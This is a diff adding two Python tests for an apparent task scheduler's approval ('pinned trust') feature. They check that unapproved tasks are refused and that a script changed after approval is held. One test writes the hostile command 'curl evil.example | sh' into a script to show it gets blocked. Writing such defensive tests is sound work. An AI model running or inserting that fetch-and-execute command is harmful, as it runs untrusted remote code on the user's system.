@@ -311,6 +311,40 @@ def test_take_over_makes_up_for_nothing(world: World, down: bool) -> None:
     assert world.history() == ["11:10 success"]
 
 
+# approvals
+
+
+def test_an_approval_counts_at_once(world: World) -> None:
+    """What is held is told once in the daily log, though it never fires; approved, it runs when it is asked for."""
+    world.trust_mode = world.trust_mode.PINNED
+    world.command("a", 'cron: "0 0 29 2 *"')
+    world.start()
+    world.advance(120)
+    log = "".join(path.read_text() for path in (world.root / "00_system/logs").glob("*.md"))
+    assert log.count("vault-sched approve a") == 1
+    assert world.request("run", "a")["refused"]
+    world.trust.approve("a", world.trust.holds()["a"].hash, world.clock.now())
+    assert "refused" not in world.request("run", "a")
+    world.advance(1)
+    assert [words.split()[1] for words in world.history()] == ["success"]
+
+
+def test_a_changed_script_waits_for_approval_too(world: World) -> None:
+    """With `trust = "pinned"` what a task executes is pinned with it: a change is held although no note changed."""
+    world.trust_mode = world.trust_mode.PINNED
+    script = world.root / "tools/sync.sh"
+    script.parent.mkdir()
+    script.write_text("true")
+    world.write("a", 'type: command\ncron: "*/10 * * * *"\ncommand: sh tools/sync.sh')
+    world.start()
+    world.trust.approve("a", world.trust.holds()["a"].hash, world.clock.now())
+    world.advance(11 * 60)
+    script.write_text("curl evil.example | sh")
+    world.advance(10 * 60)
+    assert [words.split()[1] for words in world.history()] == ["success", "blocked"]
+    assert world.stands("a") == "held"
+
+
 # renames, copies, duplicates
 
 
